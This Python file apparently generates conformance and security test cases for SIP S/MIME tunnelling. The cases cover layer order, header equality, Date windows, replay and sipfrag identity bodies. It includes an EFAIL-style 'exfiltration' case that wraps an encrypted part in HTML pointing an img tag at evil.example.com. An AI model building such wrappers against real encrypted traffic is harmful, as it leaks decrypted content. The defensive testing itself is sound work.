"""Inner and outer message together: comparison, Date, addressee, order of layers, replay (RFC 3261 23.4, RFC 3893, 8591)."""
import cms
import world
from book import Book, json_octets
from messages import (ANONYMOUS_CONTACT, AT, CONTACT, CSEQ, DATE, FROM, MIXED_ROWS, PAGE_LINE, PAGE_ROWS,
                      REQUEST_LINE, RESPONSE_ROWS, RESPONSE_TO, ROWS, SDP, SDP_ROWS, STAND_IN, STATUS_LINE, TO,
                      carried, changed, cms_entity, cms_rows, compose, entity, invite, mixed, response, sdp_entity,
                      signed_entity, signed_message, signed_rows, signed_body, sip_entity, text_message)
from world import ALICE, BOB, person

TRUST = {"trust": ["ca"]}
OURS = {"key": ["kek-256"]}
BOTH = {"key": ["kek-256"], "trust": ["ca"]}


def sign(part, name="alice", label="tunnel"):
    return cms.signed_data([cms.Signer(person(name), part, label + name)])


def encrypt(part, label, cipher="aes-256-gcm", recipients=None):
    made = cms.Content(part, cipher, "tunnel/" + label)
    return made.enveloped(recipients(made) if recipients else [cms.kekri(world.kek_id("kek-256"), world.kek("kek-256"),
        made.cek)])


def signed(inner, rows=None, start=REQUEST_LINE, name="alice"):
    part = sip_entity(inner)
    return signed_message(part, sign(part, name), rows, start)


def sealed(inner, rows=None, start=REQUEST_LINE, label="sealed"):
    return carried(encrypt(sip_entity(inner), label), rows, start)


def books():
    yield tunnel()
    yield sipfrag()
    yield payload()


def tunnel():
    b = Book("tunnel", "Tunnelled messages: what inside and outside must agree on, orders of layers, time, addressee, replay.")
    orders(b)
    equalities(b)
    mismatches(b)
    hidden(b)
    dates(b)
    addressees(b)
    replays(b)
    inspections(b)
    return b


def orders(b):
    inner = invite()
    part = sip_entity(inner)
    inside = signed_entity(part, sign(part))
    everything = {"signed": True, "encrypted": True, "authenticated": True}
    b.opens("sign-encrypt", "signed (detached), then encrypted", ["TUN-44", "TUN-62a"], carried(encrypt(inside, "se")),
            BOTH, inner, everything)
    opaque = cms_entity(cms.signed_data([cms.Signer(person("alice"), part, "opaque")], part))
    b.opens("sign-encrypt-opaque", "signed (opaque), then encrypted", ["TUN-44"], carried(encrypt(opaque, "seo")), BOTH,
            inner, everything)
    b.opens("sign-encrypt-cbc", "signed, then encrypted with CBC: the signature gives what CBC lacks",
            ["ADV-064", "TUN-44"],
            carried(encrypt(inside, "sec", "aes-256-cbc")), BOTH, inner, everything)
    cipher = cms_entity(encrypt(part, "es"))
    b.opens("encrypt-sign", "encrypted, then signed, RFC 3261's form", ["TUN-44", "TUN-45", "TUN-07"],
            signed_message(cipher, sign(cipher)), BOTH, inner, everything)
    again = cms_entity(encrypt(inside, "triple"))
    b.opens("triple", "signed, encrypted, signed", ["TUN-62a"], signed_message(again, sign(again, label="outer")), BOTH,
            inner, everything)
    squeezed = cms_entity(cms.compressed(inside))
    b.opens("sign-compress-encrypt", "signed, compressed, encrypted", ["CMS-07", "TUN-44"],
            carried(encrypt(squeezed, "sce")), BOTH, inner, everything)
    other = cms_entity(encrypt(part, "es-mallory"))
    b.refuses("encrypt-sign-mallory", "encrypted by Alice, the signature around it replaced by Mallory's",
              ["ADV-144", "TUN-45", "TUN-43"],
              signed_message(other, sign(other, "mallory")), BOTH, "untrusted-signer", 493)
    b.refuses("require-signed", "encrypted and not signed, a signature is required", ["ADV-142"],
              carried(encrypt(part, "rs")),
              dict(BOTH, require="signed"), "not-signed", 493)
    b.refuses("require-encrypted", "signed and not encrypted, encryption is required", ["TUN-15"], signed(inner),
              dict(TRUST, require="encrypted"), "not-encrypted")
    b.opens("require-both", "signed and encrypted, both required", ["TUN-15"], carried(encrypt(inside, "rb")),
            dict(BOTH, require="both"), inner)
    b.opens("layers-1", "only one layer is opened: the signature goes on", ["TUN-80"], carried(encrypt(inside, "l1")),
            dict(BOTH, layers=1), compose(content=signed_rows(), body=signed_body(part, sign(part))),
            {"encrypted": True, "signed": False})
    two = lambda made: [cms.kekri(world.kek_id(name), world.kek(name), made.cek) for name in ("kek-256", "kek-other")]
    b.opens("two-recipients-signed", "two recipients, signed inside", ["CMS-12"],
            carried(encrypt(inside, "two", recipients=two)), BOTH, inner, everything)
    b.opens("two-recipients-unsigned", "two recipients, not signed: opened, and nobody is vouched for", ["CMS-12"],
            carried(encrypt(part, "twou", recipients=two)), OURS, inner, {"authenticated": False})
    deep = part
    for i in range(4):
        deep = cms_entity(encrypt(deep, "deep-%d" % i))
    b.opens("layers-of-4", "four encrypted layers, the limit", ["ADV-056", "TUN-62a"], carried(encrypt_last(part)),
            OURS, inner)
    b.refuses("layers-of-5", "five encrypted layers", ["ADV-056", "TUN-62a"],
              compose(content=cms_rows("authEnveloped-data"),
              body=encrypt(deep, "deep-last")), OURS, "limit", 493)


def encrypt_last(part):
    for i in range(3):
        part = cms_entity(encrypt(part, "four-%d" % i))
    return encrypt(part, "four-last")


def row(name, value):
    return "%s: %s" % (name, value)


def equalities(b):
    """Inner rows, outer rows; they are the same message."""
    same = {
        "from-display": (FROM, 'From: "Somebody" <sip:alice@atlanta.example.com>;tag=9fxced76sl', "TUN-40"),
        "from-brackets": (FROM, "From: sip:alice@atlanta.example.com;tag=9fxced76sl", "TUN-40"),
        "from-host-case": (FROM, 'From: "Alice" <sip:alice@ATLANTA.Example.Com>;tag=9fxced76sl', "TUN-40"),
        "from-escape": (FROM, 'From: "Alice" <sip:%61lice@atlanta.example.com>;tag=9fxced76sl', "TUN-40"),
        "from-parameter": (FROM, 'From: "Alice" <sip:alice@atlanta.example.com>;tag=9fxced76sl;note=x', "TUN-40"),
        "to-compact": (TO, "t: <sip:bob@biloxi.example.com>", "TUN-40"),
        "to-uri-parameter": (TO, "To: Bob <sip:bob@biloxi.example.com;lr>", "TUN-40"),
        "cseq-zeros": (CSEQ, "CSeq: 0001 INVITE", "TUN-40"),
        "contact-spaces": (CONTACT, "Contact:   <sip:alice@ua.atlanta.example.com;transport=tcp>  ", "TUN-40"),
        "contact-parameter-case": (CONTACT, "Contact: <sip:alice@ua.atlanta.example.com;Transport=TCP>", "TUN-40"),
        "date-folded": ("Date: " + DATE, "Date: Sat,\r\n 21 Nov 2026 10:00:00 GMT", "ADV-010"),
        "subject-folded": ("Subject: a meeting at noon", "Subject: a meeting\r\n  at noon", "TUN-40"),
        "supported-case": ("Supported: 100rel, timer", "k: 100REL,Timer", "TUN-40"),
    }
    for name, (inner_row, outer_row, rule) in same.items():
        field = inner_row.split(":")[0]
        inner = invite(changed(ROWS, field, inner_row))
        b.opens("equal-" + name, "inside and outside are the same by SIP's rules: " + name.replace("-", " "), [rule],
                signed(inner, changed(ROWS, field, outer_row)), TRUST, inner, {"compare": {field: "equal"}})
    differ = {"via": ("Via", "Via: SIP/2.0/UDP proxy.example.com;branch=z9hG4bKproxy"),
              "max-forwards": ("Max-Forwards", "Max-Forwards: 69"),
              "record-route": ("Record-Route", "Record-Route: <sip:proxy.example.com;lr>"),
              "route": ("Route", "Route: <sip:next.example.com;lr>")}
    for name, (field, outer_row) in differ.items():
        inner = invite()
        b.opens("may-differ-" + name, "hops change %s: no breach" % field, ["ADV-140"],
                signed(inner, changed(ROWS, field, outer_row)), TRUST, inner)
    b.opens("may-differ-request-uri", "hops change the Request-URI: no breach", ["ADV-140"],
            signed(invite(), start="INVITE sip:bob@192.0.2.4 SIP/2.0"), TRUST, invite())
    b.opens("unknown-field", "an extension field differs: ignored", ["TUN-37"],
            signed(invite(ROWS + ["X-Colour: blue"]), ROWS + ["X-Colour: red"]), TRUST,
            invite(ROWS + ["X-Colour: blue"]),
            {"compare": {"X-Colour": "may-differ"}})
    for field in ("Priority: urgent", "Alert-Info: <http://www.example.com/ring>", "Organization: Example"):
        b.opens("added-" + field.split(":")[0].lower(),
                "%s was added on the way, as proxies may: not verified" % field.split(":")[0], ["TUN-39", "ADV-141"],
                signed(invite(), ROWS + [field]), TRUST, invite(), {"compare": {field.split(":")[0]: "added"}})
    three = ["Authorization: Digest username=\"a\", realm=\"r\"", "Authorization: Digest username=\"b\", realm=\"s\""]
    b.opens("rows-apart", "two Authorization rows stay apart", ["TUN-40"], signed(invite(ROWS + three), ROWS + three),
            TRUST, invite(ROWS + three))
    b.opens("response", "a signed response", ["TUN-31"], signed(response(), RESPONSE_ROWS, STATUS_LINE, "bob"), TRUST,
            response())
    sample = changed(ROWS, "To", "To: Bob <bob@biloxi.example.com>")
    b.opens("samples", "a schemeless To as published examples print it, on request", ["TUN-41"], signed(invite(sample)),
            dict(TRUST, compat=["samples"]), invite(sample))
    b.refuses("samples-not-asked", "the same without being asked for", ["TUN-41"], signed(invite(sample)), TRUST,
              "header-mismatch")


def mismatches(b):
    other = {
        "from": "From: \"Alice\" <sip:carol@atlanta.example.com>;tag=9fxced76sl",
        "from-tag": 'From: "Alice" <sip:alice@atlanta.example.com>;tag=other',
        "from-sips": 'From: "Alice" <sips:alice@atlanta.example.com>;tag=9fxced76sl',
        "from-user-case": 'From: "Alice" <sip:Alice@atlanta.example.com>;tag=9fxced76sl',
        "from-port": 'From: "Alice" <sip:alice@atlanta.example.com:5060>;tag=9fxced76sl',
        "from-dot": 'From: "Alice" <sip:alice@atlanta.example.com.>;tag=9fxced76sl',
        "to": "To: Carol <sip:carol@chicago.example.com>", "to-tag": "To: Bob <sip:bob@biloxi.example.com>;tag=x",
        "to-user-parameter": "To: Bob <sip:bob@biloxi.example.com;user=phone>",
        "call-id": "Call-ID: another@atlanta.example.com",
        "call-id-case": "Call-ID: 3848276298220188511@ATLANTA.example.com",
        "cseq": "CSeq: 2 INVITE", "contact": "Contact: <sip:mallory@evil.example.com>",
        "contact-transport": "Contact: <sip:alice@ua.atlanta.example.com>",
        "date": "Date: Sat, 21 Nov 2026 10:00:01 GMT",
    }
    for name, outer_row in other.items():
        for kind in ("signed", "sealed"):
            if kind == "sealed" and name not in ("from", "to", "call-id", "cseq", "contact", "date"):
                continue
            rows = changed(ROWS, outer_row.split(":")[0], outer_row)
            rules = ["ADV-140", "TUN-42"] + (["TUN-33"] if name.startswith("date") else ["TUN-40"])
            message = signed(invite(), rows) if kind == "signed" else sealed(invite(), rows)
            b.refuses("mismatch-%s-%s" % (kind, name), "%s; outside differs: %s" % (kind, name.replace("-", " ")),
                      rules, message,
                      BOTH, "header-mismatch", 493 if kind == "sealed" else 403)
    options_line = "OPTIONS sip:bob@biloxi.example.com SIP/2.0"
    rows = changed(ROWS, "CSeq", "CSeq: 1 OPTIONS")
    b.refuses("mismatch-method", "an INVITE inside an OPTIONS", ["ADV-140", "ADV-146"],
              signed(invite(), rows, options_line), TRUST, "header-mismatch")
    b.refuses("mismatch-status", "200 inside, 180 outside", ["ADV-140"],
              signed(response(), RESPONSE_ROWS, "SIP/2.0 180 Ringing", "bob"), TRUST, "header-mismatch")
    b.refuses("mismatch-kind", "a request inside a response", ["ADV-146"], signed(invite(), RESPONSE_ROWS, STATUS_LINE),
              TRUST, "header-mismatch")
    page = changed(PAGE_ROWS, "CSeq", "CSeq: 1 MESSAGE")
    b.refuses("invite-in-message", "an INVITE replayed in a MESSAGE", ["ADV-146"], signed(invite(), page, PAGE_LINE),
              TRUST, "header-mismatch")
    for field in ("Subject: lunch", "Reply-To: <sip:mallory@evil.example.com>", "Expires: 60", "Supported: 100rel"):
        b.refuses("added-" + field.split(":")[0].lower(),
                  "%s was added on the way, which no proxy may" % field.split(":")[0], ["TUN-39", "ADV-141"],
                  signed(invite(), ROWS + [field]), TRUST, "header-mismatch")
    for field in ("Contact", "Date"):
        b.refuses("removed-" + field.lower(), "%s was removed on the way" % field, ["TUN-39"],
                  signed(invite(), changed(ROWS, field, None)), TRUST, "header-mismatch")
    for field in ("From", "To", "Call-ID", "CSeq"):
        inner = invite(changed(ROWS, field, None))
        b.refuses("incomplete-" + field.lower(), "%s is missing inside" % field, ["TUN-35", "ADV-140"], signed(inner),
                  TRUST, "incomplete")
        b.refuses("incomplete-sealed-" + field.lower(), "%s is missing inside, encrypted" % field, ["TUN-35", "TUN-90"],
                  sealed(inner), OURS, "incomplete", 493)
    rows = changed(ROWS, "Contact", "Contact: <sip:b2bua@example.com>")
    b.opens("accept-mismatch", "a difference of Contact that is tolerated by name", ["ADV-140"], signed(invite(), rows),
            dict(TRUST, **{"accept-mismatch": "Contact"}), invite())
    b.refuses("accept-mismatch-call-id", "a difference of Call-ID is never tolerated", ["ADV-140"], signed(invite()),
              dict(TRUST, **{"accept-mismatch": "Call-ID"}), "usage")


def hidden(b):
    inner = invite(ROWS + ["Subject: a secret meeting", "Reply-To: <sip:alice@home.example.com>"])
    b.opens("hidden-subject", "Subject and Reply-To only inside, encrypted", ["TUN-39"], sealed(inner), OURS, inner,
            {"compare": {"Subject": "hidden", "Reply-To": "hidden"}})
    outside = changed(changed(ROWS, "From", STAND_IN), "Contact", ANONYMOUS_CONTACT)
    b.opens("hidden-from", "From is the anonymous stand-in outside, with the tag of the inner one; Contact without user part", ["TUN-42"],
            sealed(invite(), outside), OURS, invite(), {"compare": {"From": "hidden"}})
    part = sip_entity(invite())
    b.opens("hidden-from-signed", "the same, signed inside: the inner From is what the signer is judged by",
            ["TUN-43", "TUN-42"],
            carried(encrypt(signed_entity(part, sign(part)), "hfs"), outside), BOTH, invite(), {"signed": True})
    b.refuses("hidden-from-other-signer", "the same, signed by Mallory", ["TUN-43"],
              carried(encrypt(signed_entity(part, sign(part, "mallory")), "hfm"), outside), BOTH, "untrusted-signer",
              493)
    for name, stand_in in (("tag", 'From: "Anonymous" <sip:anonymous@anonymous.invalid>;tag=other'),
                           ("uri", 'From: "Anonymous" <sip:anonymous@evil.example.com>;tag=9fxced76sl')):
        b.refuses("stand-in-" + name, "a stand-in with another %s" % name, ["TUN-42", "ADV-140"],
                  sealed(invite(), changed(outside, "From", stand_in)), OURS,
                  "header-mismatch", 493)
    b.refuses("stand-in-signed-only", "the stand-in around a tunnel that is only signed", ["TUN-42"],
              signed(invite(), outside), TRUST, "header-mismatch")


def dates(b):
    for name, value, good in (("59-minutes-old", "Sat, 21 Nov 2026 09:00:01 GMT", True),
                              ("3600", "Sat, 21 Nov 2026 09:00:00 GMT", True),
                              ("3601", "Sat, 21 Nov 2026 08:59:59 GMT", False),
                              ("ahead-3600", "Sat, 21 Nov 2026 11:00:00 GMT", True),
                              ("ahead-3601", "Sat, 21 Nov 2026 11:00:01 GMT", False),
                              ("day-old", "Fri, 20 Nov 2026 10:00:00 GMT", False)):
        rows = changed(ROWS, "Date", "Date: " + value)
        if good:
            b.opens("date-" + name, "Date %s" % value, ["TUN-34"], signed(invite(rows), rows), TRUST, invite(rows))
        else:
            b.refuses("date-" + name, "Date %s: further than an hour from now" % value, ["TUN-34", "ADV-145"],
                      signed(invite(rows), rows), TRUST, "replay")
            b.opens("date-any-" + name, "the same, the window switched off", ["TUN-34"], signed(invite(rows), rows),
                    dict(TRUST, **{"date-window": "any"}), invite(rows))
    rows = changed(ROWS, "Date", "Date: Sat, 21 Nov 2026 09:58:00 GMT")
    b.refuses("date-window-60", "two minutes old, the window is one", ["TUN-34"], signed(invite(rows), rows),
              dict(TRUST, **{"date-window": 60}), "replay")
    b.opens("date-at", "an old message at its own time", ["TUN-34"], signed(invite(rows), rows),
            dict(TRUST, **{"date-window": 60, "at": "2026-11-21T09:58:30Z"}), invite(rows))
    none = changed(ROWS, "Date", None)
    b.opens("date-none", "a signed message without a Date: a warning", ["TUN-34", "TUN-33"], signed(invite(none), none),
            TRUST, invite(none), {"warnings": ["TUN-34"]})
    old = changed(ROWS, "Date", "Date: Fri, 20 Nov 2026 10:00:00 GMT")
    b.refuses("date-sealed", "an old Date under a shared key", ["TUN-34", "ADV-145"], sealed(invite(old), old), OURS,
              "replay", 493)


def addressees(b):
    b.opens("me", "the message is for us", ["ADV-143"], signed(invite()), dict(TRUST, me=BOB), invite())
    b.refuses("me-other", "signed by Alice for Bob, and sealed again for us", ["ADV-143"], sealed(invite()),
              dict(OURS, me="sip:carol@chicago.example.com"),
              "header-mismatch", 493)
    b.refuses("me-other-signed", "signed by Alice for Bob, we are Carol", ["ADV-143"], signed(invite()),
              dict(TRUST, me="sip:carol@chicago.example.com"), "header-mismatch")
    b.opens("me-response", "a response is for whom its From names", ["ADV-143"],
            signed(response(), RESPONSE_ROWS, STATUS_LINE, "bob"), dict(TRUST, me=ALICE), response())


def replays(b):
    once = signed(invite())
    for name, at in (("1-second", "2026-11-21T10:00:01Z"), ("59-seconds", "2026-11-21T10:00:59Z"),
                     ("61-seconds", "2026-11-21T10:01:01Z"),
                     ("1-hour", "2026-11-21T11:00:00Z")):
        b.refuses("replay-" + name, "the same message again after " + name.replace("-", " "), ["ADV-145", "TUN-54"],
                  once, TRUST, "replay",
                  at=at, before=[{"at": AT, "message": json_octets(once)}])
    respelled = signed(invite(), changed(ROWS, "Via", "v: SIP/2.0/UDP 192.0.2.9;branch=z9hG4bKother"))
    b.refuses("replay-respelled", "the protected part again under another Via", ["ADV-145"], respelled, TRUST, "replay",
              before=[{"message": json_octets(once)}])
    sealed_once = sealed(invite())
    b.refuses("replay-sealed", "the same encrypted message again", ["ADV-145", "TUN-90"], sealed_once, OURS, "replay",
              493,
              before=[{"message": json_octets(sealed_once)}])
    another = changed(ROWS, "CSeq", "CSeq: 2 INVITE")
    b.opens("no-replay", "the next message of the dialog", ["ADV-145"], signed(invite(another), another), TRUST,
            invite(another),
            before=[{"message": json_octets(once)}])


def inspections(b):
    good, lost = sealed(invite()), carried(cms.Content(sip_entity(invite()), label="inspect").enveloped(
        [cms.kekri(world.kek_id("kek-lost"), world.kek("kek-lost"), bytes(32))]))
    b.add("inspect-good", "inspect: the verdict on a good message", ["TUN-38"], "inspect", good, OURS,
          {"result": "ok", "exit": 0, "verdict": "ok"})
    b.add("inspect-no-key", "inspect frames what it has no key for; the verdict is an error", ["TUN-11"], "inspect",
          lost, OURS,
          {"result": "ok", "exit": 0, "verdict": "error", "error": "no-key"})
    b.add("inspect-mismatch", "inspect tells of a mismatch, exit 0", ["ADV-140"], "inspect",
          signed(invite(), changed(ROWS, "CSeq", "CSeq: 2 INVITE")), TRUST,
          {"result": "ok", "exit": 0, "verdict": "error", "error": "header-mismatch"})
    b.add("inspect-malformed", "inspect cannot frame this", ["ADV-001"], "inspect", invite(ROWS + [FROM]), {},
          "malformed")
    parts = mixed([cms_entity(encrypt(sdp_entity(), "efail")), entity(["Content-Type: text/plain"], b"look here")])
    message = compose(content=MIXED_ROWS, body=parts)
    b.opens("parts-apart", "an encrypted part beside one that nothing protects: the opened one alone is handed on",
            ["ADV-147", "ADV-041", "TUN-24"],
            message, OURS, compose(content=SDP_ROWS, body=SDP), {"entity": sdp_entity(), "body": SDP})
    around = mixed([entity(["Content-Type: text/html"], b'<img src="http://evil.example.com/'),
                    cms_entity(encrypt(sdp_entity(), "efail2")),
                    entity(["Content-Type: text/html"], b'">')])
    b.opens("exfiltration", "a captured blob between two parts of the attacker's", ["ADV-147"],
            compose(content=MIXED_ROWS, body=around), OURS,
            compose(content=SDP_ROWS, body=SDP), {"body": SDP})


# ---- message/sipfrag


FRAGMENT_ROWS = ["From", "To", "Call-ID", "CSeq", "Date", "Contact"]


def fragment(rows, names=FRAGMENT_ROWS, start=None):
    chosen = [each for each in rows if each.split(":")[0] in names]
    lines = ([start] if start else []) + chosen
    return "".join(line + "\r\n" for line in lines).encode()


def fragment_entity(octets, disposition="aib; handling=optional"):
    return entity(["Content-Type: message/sipfrag"] + (["Content-Disposition: " + disposition] if disposition else []),
                  octets)


def with_aib(part, name="alice", rows=None, start=REQUEST_LINE, body=None):
    proof = signed_entity(part, sign(part, name, "aib"))
    return compose(start, rows, MIXED_ROWS, mixed([sdp_entity() if body is None else body, proof]))


def sipfrag():
    b = Book("sipfrag", "message/sipfrag and the authenticated identity body (RFC 3420, RFC 3893).")
    part = fragment_entity(fragment(ROWS))
    b.opens("aib", "an AIB beside the body: the message comes out without it", ["TUN-52", "TUN-54"], with_aib(part),
            TRUST, invite(), {"signed": True})
    b.opens("aib-alone", "an AIB as the whole body", ["TUN-52"], signed_message(part, sign(part, label="aib")), TRUST,
            compose(length=None))
    b.opens("aib-opaque", "an AIB in signed-data", ["TUN-52"],
            compose(content=MIXED_ROWS, body=mixed([sdp_entity(),
                                                    cms_entity(cms.signed_data([cms.Signer(person("alice"), part,
                                                        "aib")], part))])), TRUST, invite())
    with_line = fragment_entity(fragment(ROWS, start=REQUEST_LINE))
    b.opens("start-line", "a fragment with its start line", ["TUN-50"], with_aib(with_line), TRUST, invite())
    back = [each for each in RESPONSE_ROWS if each.split(":")[0] in ("Call-ID", "CSeq", "Date", "Contact")]
    answer = fragment_entity("".join(line + "\r\n" for line in ["From: Bob <sip:bob@biloxi.example.com>"]
                                     + back).encode())
    b.opens("response", "the AIB of a response: From is the responder", ["TUN-53"],
            compose(STATUS_LINE, RESPONSE_ROWS, MIXED_ROWS,
                    mixed([sdp_entity(), signed_entity(answer, sign(answer, "bob", "aib"))])), TRUST, response())
    cipher = cms_entity(encrypt(part, "aib-enc"))
    b.opens("encrypted-signed", "an AIB encrypted, then signed", ["TUN-55"],
            compose(content=MIXED_ROWS, body=mixed([sdp_entity(), signed_entity(cipher, sign(cipher, label="aibes"))])),
            BOTH, invite())
    inside = signed_entity(part, sign(part, label="aib"))
    b.opens("signed-encrypted", "an AIB signed, then encrypted", ["TUN-55"],
            compose(content=MIXED_ROWS, body=mixed([sdp_entity(), cms_entity(encrypt(inside, "aibse"))])), BOTH,
            invite())
    wrong(b)
    return b


def wrong(b):
    for field in FRAGMENT_ROWS:
        part = fragment_entity(fragment(ROWS, [name for name in FRAGMENT_ROWS if name != field]))
        b.refuses("lacks-" + field.lower(), "the AIB lacks %s, which the message has" % field, ["TUN-51"],
                  with_aib(part), TRUST, "incomplete")
    for field, other in (("Call-ID", "Call-ID: other@example.com"), ("CSeq", "CSeq: 7 INVITE"),
                         ("Contact", "Contact: <sip:mallory@evil.example.com>"),
                         ("To", "To: <sip:carol@chicago.example.com>"), ("Date", "Date: Sat, 21 Nov 2026 10:00:02 GMT"),
                         ("From", 'From: "Alice" <sip:alice@atlanta.example.com>;tag=other')):
        part = fragment_entity(fragment(ROWS))
        b.refuses("differs-" + field.lower(), "cut and paste: %s of the message differs" % field, ["TUN-54", "ADV-146"],
                  with_aib(part, rows=changed(ROWS, field, other)), TRUST, "header-mismatch")
    part = fragment_entity(fragment(ROWS))
    b.refuses("other-signer", "the AIB is signed by Mallory", ["TUN-54", "ADV-126"], with_aib(part, "mallory"), TRUST,
              "untrusted-signer")
    old = changed(ROWS, "Date", "Date: Fri, 20 Nov 2026 10:00:00 GMT")
    b.refuses("old", "an AIB of yesterday", ["TUN-54", "ADV-145"], with_aib(fragment_entity(fragment(old)), rows=old),
              TRUST, "replay")
    b.refuses("not-signed", "an AIB that nothing signs proves nothing", ["TUN-52"],
              compose(content=MIXED_ROWS, body=mixed([sdp_entity(), part])), dict(TRUST, require="signed"),
              "not-signed")
    back = [each for each in RESPONSE_ROWS if each.split(":")[0] in ("Call-ID", "CSeq", "Date", "Contact")]
    with_to = fragment_entity("".join(line + "\r\n" for line in ["From: Bob <sip:bob@biloxi.example.com>", RESPONSE_TO]
                                      + back).encode())
    b.refuses("response-with-to", "the AIB of a response holds To", ["TUN-53"],
              compose(STATUS_LINE, RESPONSE_ROWS, MIXED_ROWS,
                      mixed([sdp_entity(), signed_entity(with_to, sign(with_to, "bob", "aib"))])), TRUST,
                      "header-mismatch")
    for name, octets in (("half-start-line", b"SIP/2.0 200\r\n"), ("version-only", b"SIP/2.0\r\n"),
                         ("no-version", b"404 Not Found\r\n"),
                         ("body-without-line", fragment(ROWS) + b"v=0\r\n"),
                         ("invalid-field", fragment(ROWS) + b"CSeq: many INVITE\r\n")):
        part = fragment_entity(octets, None)
        b.refuses("syntax-" + name, "no fragment by its grammar: " + name.replace("-", " "), ["TUN-50", "ADV-044"],
                  signed_message(part, sign(part, label="frag" + name)),
                  TRUST, "malformed")
    part = fragment_entity(fragment(ROWS), "render")
    b.opens("not-an-aib", "a fragment of another disposition is an ordinary entity", ["TUN-52"],
            signed_message(part, sign(part, label="render")), TRUST,
            compose(content=["Content-Type: message/sipfrag", "Content-Disposition: render"], body=fragment(ROWS)))


# ---- only the body


def payload():
    b = Book("payload", "Messages of which only the body is protected.")
    bare = compose(content=SDP_ROWS, body=SDP)
    for cipher in ("aes-128-gcm", "aes-256-gcm", "aes-128-cbc"):
        b.opens("body-" + cipher, "the body encrypted with %s: the outer header stays, Content-Length is made anew" % cipher, ["TUN-38"],
                carried(encrypt(sdp_entity(), "payload" + cipher, cipher)),
                dict(OURS, **{"allow-unauthenticated": True}), bare, {"entity": sdp_entity(), "body": SDP})
    b.opens("body-signed", "the body signed", ["TUN-07"],
            signed_message(sdp_entity(), sign(sdp_entity(), label="body")), TRUST, bare, {"body": SDP})
    inside = signed_entity(sdp_entity(), sign(sdp_entity(), label="body"))
    b.opens("body-signed-encrypted", "the body signed, then encrypted", ["TUN-44"], carried(encrypt(inside, "pse")),
            BOTH, bare, {"body": SDP})
    cipher = cms_entity(encrypt(sdp_entity(), "pes"))
    b.opens("body-encrypted-signed", "the body encrypted, then signed", ["TUN-07", "TUN-44"],
            signed_message(cipher, sign(cipher, label="pes")), BOTH, bare, {"body": SDP})
    answer = compose(STATUS_LINE, RESPONSE_ROWS, SDP_ROWS, SDP)
    b.opens("response-body", "the body of a response", ["TUN-38"],
            carried(encrypt(sdp_entity(), "prb"), RESPONSE_ROWS, STATUS_LINE), OURS, answer, {"body": SDP})
    page = text_message()
    text = entity(["Content-Type: text/plain"], b"Watson, come here.\r\n")
    b.opens("message-text", "the text of a MESSAGE, signed, then encrypted, as RFC 8591 has it", ["TUN-44", "TUN-59"],
            carried(encrypt(signed_entity(text, sign(text, label="page")), "page"), PAGE_ROWS, PAGE_LINE), BOTH, page)
    many = entity(MIXED_ROWS, mixed([sdp_entity(), text]))
    b.opens("multipart-body", "a multipart body, encrypted as a whole", ["TUN-64"], carried(encrypt(many, "pmb")), OURS,
            compose(content=MIXED_ROWS, body=mixed([sdp_entity(), text])))
    first, second = (cms_entity(encrypt(part, "p2" + name)) for part, name in ((sdp_entity(), "a"), (text, "b")))
    b.opens("two-parts", "two encrypted parts: the first is handed on", ["ADV-147"],
            compose(content=MIXED_ROWS, body=mixed([first, second])), OURS, bare)
    foreign = cms_entity(cms.Content(text,
                                     label="foreign").enveloped([cms.kekri(world.kek_id("kek-lost"),
                                         world.kek("kek-lost"), bytes(32))]))
    b.opens("part-for-another", "one part for us, one for somebody else", ["TUN-24"],
            compose(content=MIXED_ROWS, body=mixed([foreign, first])), OURS, bare)
    b.refuses("part-tampered", "one of two parts does not come out: nothing is handed on", ["TUN-90", "ADV-147"],
              compose(content=MIXED_ROWS, body=mixed([first, cms_entity(encrypt(text, "p2t")[:-1] + b"\0")])), OURS,
              "cannot-decrypt", 493)
    b.refuses("body-other-signer", "the body signed by somebody else than From", ["ADV-126", "TUN-08"],
              signed_message(sdp_entity(), sign(sdp_entity(), "mallory", "body")), TRUST, "untrusted-signer")
    b.refuses("require-covers", "a signed part beside the one that is handed on does not meet the requirement",
              ["ADV-041", "ADV-142"],
              compose(content=MIXED_ROWS, body=mixed([first, signed_entity(text, sign(text, label="beside"))])),
              dict(BOTH, require="signed"), "not-signed", 493)
    return b
